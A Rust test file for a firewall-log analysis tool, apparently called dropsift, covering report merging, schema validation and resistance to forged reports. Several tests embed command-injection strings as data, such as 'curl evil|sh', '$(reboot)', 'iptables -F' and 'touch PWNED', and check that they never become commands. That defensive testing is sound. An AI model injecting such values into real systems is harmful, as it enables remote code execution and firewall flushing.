//! Reports and events as inputs: the output equals the input, merged in any order, and nothing of a forged one is run.

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output};

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::support::{dropsift, piped};

const NOW: [&str; 2] = ["--now", "2026-05-05T12:00:00Z"];

fn text(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn set_a() -> String {
    fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/set-a/full.log"))
        .unwrap()
}

/// Returns the report on a log, in `folder` as `name`.json.
fn report(folder: &Path, name: &str, log: &str, args: &[&str]) -> Value {
    fs::write(folder.join(format!("{name}.log")), log).unwrap();
    let log = format!("{name}.log");
    let output = dropsift(
        folder,
        &[&["--year", "2026", "-o", "json", &log], args].concat(),
    );
    fs::write(folder.join(format!("{name}.json")), &output.stdout).unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

fn read(folder: &Path, inputs: &[&str]) -> Value {
    let output = dropsift(folder, &[&["-o", "json"], inputs].concat());
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)))
}

/// Returns the findings and rules without the properties that only a log has.
fn essence(report: &Value) -> Vec<Value> {
    let mut all: Vec<Value> = report["findings"].as_array().unwrap().clone();
    for finding in &mut all {
        // Said of several nodes at once, which the reports of one node each cannot.
        finding["evidence"]
            .as_array_mut()
            .unwrap()
            .retain(|test| test["test"] != "missing-elsewhere" && test["test"] != "only-here");
    }
    all.extend(report["rules"].as_array().unwrap().iter().cloned());
    all.sort_by_key(ToString::to_string);
    all
}

#[test]
fn a_report_read_back_is_the_report() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let first = report(root, "a", &set_a(), &["--role", "control-plane"]);
    let second = read(root, &["a.json"]);
    for key in ["findings", "rules", "nodes", "span", "tally", "windows"] {
        assert_eq!(first[key], second[key], "{key}");
    }
    assert_eq!(first["summary"], second["summary"]);
    let codes = |report: &Value| -> Vec<(String, Value)> {
        let all = report["warnings"].as_array().unwrap().iter();
        all.map(|w| (w["code"].as_str().unwrap().to_owned(), w["node"].clone()))
            .collect()
    };
    assert_eq!(codes(&first), codes(&second));
    // The text is the same too, up to the section that may make the answer wrong; later sections name the input.
    let text_of = |input: &str| {
        let output = dropsift(root, &["--year", "2026", "--role", "control-plane", input]);
        let text = text(&output);
        text.lines()
            .skip(2)
            .take_while(|line| !line.starts_with("CAUTION") && !line.starts_with("FIX FOR"))
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    assert_eq!(text_of("a.log"), text_of("a.json"));
}

#[test]
fn reports_come_packed_indented_sorted_and_by_stdin() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let whole = report(root, "a", &set_a(), &[]);
    let plain = fs::read(root.join("a.json")).unwrap();
    let wanted = essence(&whole);
    let value: Value = serde_json::from_slice(&plain).unwrap();
    fs::write(
        root.join("pretty.json"),
        serde_json::to_vec_pretty(&value).unwrap(),
    )
    .unwrap();
    let mut gz = flate2::write::GzEncoder::new(
        fs::File::create(root.join("a.gz")).unwrap(),
        flate2::Compression::fast(),
    );
    gz.write_all(&plain).unwrap();
    gz.finish().unwrap();
    let mut bom = b"\xef\xbb\xbf".to_vec();
    bom.extend(&plain);
    fs::write(root.join("bom.json"), bom).unwrap();
    // As `jq -S` writes it: this map has its keys in order.
    let sorted: std::collections::BTreeMap<String, Value> = serde_json::from_slice(&plain).unwrap();
    fs::write(
        root.join("sorted.json"),
        serde_json::to_vec(&sorted).unwrap(),
    )
    .unwrap();
    for name in ["pretty.json", "a.gz", "bom.json", "sorted.json"] {
        assert_eq!(essence(&read(root, &[name])), wanted, "{name}");
    }
    for name in ["a.json", "a.gz"] {
        let output = Command::new(env!("CARGO_BIN_EXE_dropsift"))
            .args(["-o", "json"])
            .stdin(fs::File::open(root.join(name)).unwrap())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(1));
        assert_eq!(
            essence(&serde_json::from_slice(&output.stdout).unwrap()),
            wanted,
            "stdin {name}"
        );
    }
    // A pipe that goes on.
    let mut command = Command::new(env!("CARGO_BIN_EXE_dropsift"));
    let output = piped(command.args(["-o", "json"]), &plain);
    assert_eq!(
        essence(&serde_json::from_slice(&output.stdout).unwrap()),
        wanted,
        "a pipe"
    );
}

#[test]
fn events_are_read_with_their_report_and_without() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let whole = report(root, "a", &set_a(), &[]);
    let live = |args: &[&str], name: &str| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_dropsift"));
        command.args(["--year", "2026", "-f", "-o", "ndjson"]);
        let output = piped(command.args(args), set_a());
        fs::write(root.join(name), output.stdout).unwrap();
    };
    live(&[], "events.ndjson");
    assert_eq!(essence(&read(root, &["events.ndjson"])), essence(&whole));
    live(&["--no-report", "--updates"], "only.ndjson");
    let only = read(root, &["only.ndjson"]);
    let keys = |report: &Value| -> Vec<(String, String)> {
        let mut all: Vec<_> = (report["findings"].as_array().unwrap().iter())
            .map(|f| {
                (
                    f["id"].as_str().unwrap().to_owned(),
                    f["cause"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        all.sort();
        all
    };
    assert_eq!(keys(&only), keys(&whole));
    let codes: Vec<&str> = only["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"events-without-report"), "{codes:?}");
}

/// Returns the log of one node out of a log of several.
fn of_node(log: &str, node: &str) -> String {
    log.lines()
        .filter(|line| line.contains(node))
        .map(|line| format!("{line}\n"))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    /// Reports of any nodes in any order merge into the same whole: the union of the reports.
    #[test]
    fn merging_knows_no_order(split in prop::collection::vec(0..3_usize, 3), order in Just([0, 1, 2]).prop_shuffle()) {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path();
        let nodes = ["harvester1", "harvester2", "harvester3"];
        let log = set_a();
        let mut union = Vec::new();
        let mut parts = Vec::new();
        for part in 0..3 {
            let own = nodes.iter().zip(&split).filter(|(_, of)| **of == part);
            let own: String = own.map(|(node, _)| of_node(&log, node)).collect();
            if own.is_empty() {
                continue;
            }
            let name = format!("part{part}");
            let one = report(root, &name, &own, &["--role", "control-plane"]);
            union.extend(essence(&one));
            parts.push(format!("{name}.json"));
        }
        union.sort_by_key(ToString::to_string);
        let inputs: Vec<&str> = order.iter().filter_map(|at| parts.get(*at)).map(String::as_str).collect();
        let merged = read(root, &inputs);
        prop_assert_eq!(essence(&merged), union);
        let mut sorted = inputs.clone();
        sorted.sort_unstable();
        let mut other = read(root, &sorted);
        other["inputs"] = merged["inputs"].clone();
        prop_assert_eq!(&merged, &other);
        let logged: u64 = merged["findings"].as_array().unwrap().iter().map(|f| f["logged"].as_u64().unwrap()).sum();
        prop_assert_eq!(&merged["tally"]["drops"], logged);
    }
}

#[test]
fn reports_of_one_node_add_up_where_their_times_lie_apart() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let line = |minute: u32, spt: u32| {
        format!(
            "May 05 09:{minute:02}:00.000000 harvester1 kernel: HARVESTER_DROP_IN=mgmt-br OUT= \
             MAC=52:54:00:ab:cd:ef:52:54:00:ab:cd:e3:08:00 SRC=192.168.122.63 DST=192.168.122.61 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=1 \
             DF PROTO=TCP SPT={spt} DPT=6443 WINDOW=64240 RES=0x00 SYN URGP=0 \n"
        )
    };
    report(root, "a", &(line(1, 40001) + &line(5, 40002)), &[]);
    report(root, "b", &(line(10, 40003) + &line(11, 40004)), &[]);
    report(root, "c", &(line(5, 40002) + &line(10, 40003)), &[]);
    let logged = |inputs: &[&str]| {
        read(root, inputs)["findings"][0]["logged"]
            .as_u64()
            .unwrap()
    };
    assert_eq!(logged(&["a.json", "b.json"]), 4);
    assert_eq!(logged(&["a.json", "a.json"]), 2);
    fs::copy(root.join("a.json"), root.join("copy.json")).unwrap();
    assert_eq!(
        logged(&["a.json", "copy.json"]),
        2,
        "one report under two names"
    );
    assert_eq!(
        logged(&["a.json", "b.json", "c.json"]),
        2,
        "all of them overlap: the largest count stands"
    );
    let warned = read(root, &["c.json", "a.json"]);
    let codes: Vec<&str> = warned["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"reports-overlap"), "{codes:?}");
    // A log beside a report is judged as if it had been reported.
    assert_eq!(logged(&["--year", "2026", "a.json", "b.log"]), 4);
}

#[test]
fn filters_and_rules_work_on_reports() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    report(root, "a", &set_a(), &["--role", "control-plane"]);
    let all: &[&[&str]] = &[
        &["--verdict", "missing-rule"],
        &["--only", "harvester1"],
        &["--not", "--port", "2112"],
        &["--peer", "192.168.122.63"],
        &["--fail-on", "never"],
    ];
    for options in all {
        let run = |input: &str| {
            let output = dropsift(
                root,
                &[
                    &[
                        "--year",
                        "2026",
                        "--role",
                        "control-plane",
                        "-o",
                        "json",
                        input,
                    ],
                    *options,
                ]
                .concat(),
            );
            let report: Value = serde_json::from_slice(&output.stdout).unwrap();
            (
                output.status.code(),
                essence(&report),
                report["tally"].clone(),
            )
        };
        assert_eq!(run("a.log"), run("a.json"), "{options:?}");
    }
    for form in ["iptables", "cloudinit", "split-log"] {
        let run = |input: &str| {
            text(&dropsift(
                root,
                &[
                    "rules",
                    "--year",
                    "2026",
                    "--role",
                    "control-plane",
                    "--format",
                    form,
                    input,
                ],
            ))
        };
        assert_eq!(run("a.log"), run("a.json"), "{form}");
    }
}

/// A role given by the user settles the doubts of an assumed one; a contradicting role changes nothing, which is
/// reported.
#[test]
fn a_role_that_is_told_settles_a_guess() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    report(root, "a", &set_a(), &[]);
    let disposition = |args: &[&str]| {
        let report = read(root, args);
        let rules = report["rules"].as_array().unwrap();
        let rule = rules
            .iter()
            .find(|rule| rule["id"] == "harvester1/tcp/2112")
            .unwrap();
        rule["disposition"].as_str().unwrap().to_owned()
    };
    assert_eq!(disposition(&["a.json"]), "review");
    assert_eq!(
        disposition(&["a.json", "--role", "control-plane"]),
        "documented"
    );
    let other = read(root, &["a.json", "--role", "harvester1=worker"]);
    let codes: Vec<&str> = other["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"role-not-applied"), "{codes:?}");
}

#[test]
fn what_is_not_of_a_known_schema_is_refused_by_name() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let good = report(root, "a", &set_a(), &[]);
    let changed = |change: &dyn Fn(&mut Value)| {
        let mut report = good.clone();
        change(&mut report);
        let mut bytes = serde_json::to_vec(&report).unwrap();
        // The schema comes first, as the program writes it.
        let schema = report["schema"].to_string();
        let text = String::from_utf8(std::mem::take(&mut bytes))
            .unwrap()
            .replacen('{', &format!("{{\"schema\":{schema},\"_\":0,"), 1);
        let text = text.replace(&format!(",\"schema\":{schema}"), "");
        fs::write(root.join("x.json"), text).unwrap();
        let output = dropsift(root, &["x.json"]);
        (
            output.status.code(),
            String::from_utf8(output.stderr).unwrap(),
        )
    };
    type Change<'a> = &'a dyn Fn(&mut Value);
    let cases: &[(Change<'_>, &str)] = &[
        (
            &|r| r["schema"] = json!("dropsift/report/v2"),
            "dropsift/report/v2",
        ),
        (
            &|r| r["schema"] = json!("dropsift/event/v7"),
            "dropsift/event/v7",
        ),
        (
            &|r| r["schema"] = json!("dropsift/rules/v1"),
            "dropsift/rules/v1, and only reports and events can be read",
        ),
        (
            &|r| r["findings"][0]["cause"] = json!("new-cause"),
            "`new-cause` is not known here",
        ),
        (
            &|r| r["findings"][0]["verdict"] = json!("review"),
            "is not the verdict of its cause",
        ),
        (&|r| r["findings"][0]["id"] = json!("x"), "has no id"),
        (
            &|r| r["findings"][0]["peers"] = json!(["10.0.0.1; reboot"]),
            "is no address",
        ),
        (
            &|r| r["findings"][0]["peers"] = json!(["10.0.0.1", "fd00::1"]),
            "two families",
        ),
        (
            &|r| r["findings"][0]["interface"] = json!("eth0 -j ACCEPT"),
            "its interface is none",
        ),
        (
            &|r| r["findings"][0]["role"] = json!("king"),
            "its role `king` is not known",
        ),
        (&|r| r["nodes"] = json!(7), "is not of its form"),
    ];
    for (change, said) in cases {
        let (code, err) = changed(*change);
        assert_eq!(code, Some(2), "{said}: {err}");
        assert!(err.contains(said), "{err}\nlacks {said}");
    }
    // Truncated in the middle: the part before counts, and the truncation is reported.
    let bytes = fs::read(root.join("a.json")).unwrap();
    fs::write(root.join("cut.json"), &bytes[..bytes.len() / 2]).unwrap();
    let cut = dropsift(root, &["cut.json"]);
    assert_eq!(cut.status.code(), Some(2));
    assert!(String::from_utf8(cut.stderr).unwrap().contains("not whole"));
    let mut behind = bytes.clone();
    behind.extend(b"{\"schema\":");
    fs::write(root.join("behind.json"), behind).unwrap();
    let behind = dropsift(root, &["behind.json", "-o", "json"]);
    assert_eq!(behind.status.code(), Some(2));
    assert_eq!(
        essence(&serde_json::from_slice(&behind.stdout).unwrap()),
        essence(&good)
    );
}

/// A forged report that tries to have its commands run as root.
#[test]
fn nothing_of_a_forged_report_becomes_a_command() {
    const EVIL: &str = "PWNED'; curl evil|sh #$(reboot)`x`\u{1b}[2J\u{202e}\niptables -F";
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let good = report(root, "a", &set_a(), &["--role", "control-plane"]);
    // Every text that could stand in a command, and every other that is a text and no code.
    let mut forged = good.clone();
    for rule in forged["rules"].as_array_mut().unwrap() {
        for key in [
            "comment",
            "place",
            "insert",
            "undo",
            "cloudinit",
            "source",
            "ports",
        ] {
            rule[key] = json!(EVIL);
        }
        rule["proto"] = json!("all");
    }
    for finding in forged["findings"].as_array_mut().unwrap() {
        for key in ["service", "text", "sample"] {
            finding[key] = json!(EVIL);
        }
        for test in finding["evidence"].as_array_mut().unwrap() {
            test["text"] = json!(EVIL);
        }
    }
    for warning in forged["warnings"].as_array_mut().unwrap() {
        warning["text"] = json!(EVIL);
    }
    forged["summary"]["text"] = json!(EVIL);
    forged["tool"]["version"] = json!(EVIL);
    write(root, "forged.json", &forged);
    let rules = |report: &Value| report["rules"].clone();
    assert_eq!(
        rules(&read(root, &["forged.json"])),
        rules(&good),
        "made anew"
    );
    for args in [
        &["forged.json"][..],
        &["-v", "forged.json"],
        &["rules", "forged.json"],
        &["rules", "--format", "cloudinit", "forged.json"],
        &["rules", "--format", "split-log", "forged.json"],
        &["-o", "json", "forged.json"],
        &["-o", "ndjson", "--no-report", "forged.json"],
    ] {
        let output = dropsift(root, args);
        let out = text(&output);
        for c in out.chars().filter(|c| *c != '\n') {
            assert!(!c.is_control() && c != '\u{202e}', "{args:?}: {c:?}");
        }
        let commands = out
            .lines()
            .filter(|line| line.contains("iptables") && !line.contains("PWNED"));
        for line in commands.filter(|_| args[0] != "-o") {
            assert!(!line.contains("-F"), "{args:?}: {line}");
        }
        if args[0] == "rules" {
            assert!(!out.contains("PWNED"), "{args:?}:\n{out}");
        }
        // In the report itself such a text is quoted, never a line of its own.
        for line in out
            .lines()
            .filter(|line| line.trim_start().starts_with("iptables"))
        {
            assert!(!line.contains("PWNED"), "{line}");
        }
    }
    let plain = text(&dropsift(root, &["forged.json"]));
    let quoted = plain.lines().filter(|line| line.contains("PWNED"));
    for line in quoted {
        assert!(line.contains("forged.json says:"), "{line}");
    }
}

fn write(root: &Path, name: &str, report: &Value) {
    let text = report.to_string();
    let text = format!("{{\"schema\":{},{}", report["schema"], &text[1..])
        .replace(&format!(",\"schema\":{}", report["schema"]), "");
    fs::write(root.join(name), text).unwrap();
}

/// Claims that no log would lead to: none of them opens more than the rules of this program ever do.
#[test]
fn a_forged_finding_opens_no_more_than_a_log_could() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let good = report(root, "a", &set_a(), &["--role", "control-plane"]);
    let finding = good["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["port"] == 2112)
        .unwrap();
    let rule = good["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|rule| rule["id"] == finding["rule"])
        .unwrap();
    let claim = |change: &dyn Fn(&mut Value)| -> Vec<Value> {
        let mut report = good.clone();
        let mut one = finding.clone();
        change(&mut one);
        report["findings"] = json!([one]);
        report["rules"] = json!([rule]);
        write(root, "x.json", &report);
        let output = dropsift(root, &["-o", "json", "x.json"]);
        let read: Value = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
        read["rules"].as_array().cloned().unwrap_or_default()
    };
    assert_eq!(claim(&|_| {}).len(), 1);
    // Each rule names a port, the pods' network or ICMP.
    let changes: &[&dyn Fn(&mut Value)] = &[
        &|f| f["cause"] = json!("icmp"),
        &|f| f["cause"] = json!("pod-network"),
        &|f| f["port"] = Value::Null,
        &|f| {
            f["cause"] = json!("unlisted-port");
            f["port"] = Value::Null;
        },
        &|f| f["direction"] = json!("reply"),
        &|f| f["direction"] = json!("unknown"),
        &|f| f["proto"] = json!("gre"),
        &|f| f["proto"] = Value::Null,
        &|f| f["rules"] = json!([]),
        &|f| f["peers"] = json!([]),
        &|f| f["port"] = json!(0),
        &|f| {
            f["cause"] = json!("addon-port");
            f["port"] = json!(22);
        },
        &|f| {
            f["cause"] = json!("documented-port");
            f["port"] = json!(23);
        },
    ];
    for (at, change) in changes.iter().enumerate() {
        for rule in claim(*change) {
            let insert = rule["insert"].as_str().unwrap();
            let icmp = ["icmp", "icmpv6"].contains(&rule["proto"].as_str().unwrap());
            assert!(
                insert.contains("--dport") || icmp || rule["source"] == "10.52.0.0/16",
                "{at}: {insert}"
            );
            let is_plain = rule["disposition"] == "documented";
            // The role's own rows, which a log with such a line would open as well.
            let is_own = rule["ports"] == "2112" || rule["ports"] == "22";
            assert!(!is_plain || is_own, "{at}: {rule}");
            if rule["ports"] == "23" {
                assert!(insert.contains(" -s "), "{at}: {insert}");
            }
        }
    }
    // What the report left to be decided stays so, whatever else it says of the rule.
    let mut report = good.clone();
    for rule in report["rules"].as_array_mut().unwrap() {
        rule["disposition"] = json!("review");
        rule["doubt"] = json!({"code": "narrowed", "text": "rule 3 has it"});
    }
    write(root, "x.json", &report);
    let read = read(root, &["x.json"]);
    for rule in read["rules"].as_array().unwrap() {
        assert_eq!(rule["disposition"], "review", "{rule}");
        assert!(
            !rule["doubt"]["text"].as_str().unwrap().contains("rule 3"),
            "{rule}"
        );
    }
}

/// The name of a node may be any text.
#[test]
fn a_forged_node_name_breaks_out_of_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let good = report(root, "a", &set_a(), &["--role", "control-plane"]);
    let evil = "h'; touch PWNED; '\ntouch PWNED #$(touch PWNED)`touch PWNED`";
    let text_of = good.to_string().replace(
        "harvester1",
        &serde_json::to_string(evil)
            .unwrap()
            .trim_matches('"')
            .replace("harvester1", ""),
    );
    let forged: Value = serde_json::from_str(&text_of).unwrap();
    write(root, "x.json", &forged);
    for form in ["iptables", "split-log"] {
        let script = dropsift(root, &["rules", "--format", form, "x.json"]);
        fs::write(root.join("run.sh"), &script.stdout).unwrap();
        let ran = Command::new("sh")
            .arg("run.sh")
            .arg("-n")
            .current_dir(root)
            .env("PATH", "/nonexistent")
            .output();
        drop(ran);
        assert!(!root.join("PWNED").exists(), "{form}");
        let parsed = Command::new("sh")
            .args(["-n", "run.sh"])
            .current_dir(root)
            .output()
            .unwrap();
        assert!(
            parsed.status.success(),
            "{form}: {}",
            String::from_utf8_lossy(&parsed.stderr)
        );
    }
    let out = text(&dropsift(root, &[&NOW[..], &["x.json"]].concat()));
    assert!(
        !out.lines()
            .any(|line| line.trim_start().starts_with("touch")),
        "{out}"
    );
}

/// Numbers that no log has: the largest that there are, and times out of order.
#[test]
fn hostile_numbers_stay_numbers() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    let mut forged = report(root, "a", &set_a(), &[]);
    for finding in forged["findings"].as_array_mut().unwrap() {
        finding["logged"] = json!(u64::MAX);
        finding["attempts"] = json!(u64::MAX);
        finding["flags"] = json!({"SYN": u64::MAX});
        finding["ports"] = json!([9, 9, 1]);
        finding["first"] = json!("9999-12-31T23:59:59Z");
        finding["last"] = json!("1970-01-01T00:00:00Z");
        finding["accepted"] = json!({"reason": "\u{1b}[2J", "until": "9999-12-31"});
    }
    for key in [
        "lines",
        "drops",
        "other",
        "unreadable",
        "untrusted",
        "outside",
        "filtered",
    ] {
        forged["tally"][key] = json!(u64::MAX);
    }
    for node in forged["nodes"].as_array_mut().unwrap() {
        node["logged"] = json!(u64::MAX);
        node["unlogged"] = json!(u64::MAX);
        node["saturated"] = json!([{"from": "1970-01-01T00:00:00Z", "to": "9999-12-31T00:00:00Z"}]);
    }
    write(root, "x.json", &forged);
    write(root, "y.json", &{
        let mut other = forged.clone();
        other["tally"]["lines"] = json!(1);
        other
    });
    for args in [
        &["x.json"][..],
        &["x.json", "y.json"],
        &["-v", "x.json"],
        &["-o", "json", "x.json", "y.json"],
    ] {
        let output = dropsift(root, args);
        assert_eq!(
            output.status.code(),
            Some(1),
            "{args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(!text(&output).contains('\u{1b}'));
    }
    let merged = read(root, &["x.json"]);
    assert_eq!(
        merged["summary"]["accepted"], 0,
        "until the year 9999 is no end"
    );
}

#[test]
fn what_needs_lines_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    report(root, "a", &set_a(), &[]);
    let chain = "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -j DROP\nCOMMIT\n";
    fs::write(root.join("chain"), chain).unwrap();
    let output = dropsift(root, &["simulate", "--rules", "chain", "a.json"]);
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.contains("give the log itself"), "{said}");
    // What the running chain has of the rules does not need any.
    let check = dropsift(root, &["rules", "--check", "--rules", "chain", "a.json"]);
    assert_eq!(check.status.code(), Some(1));
}
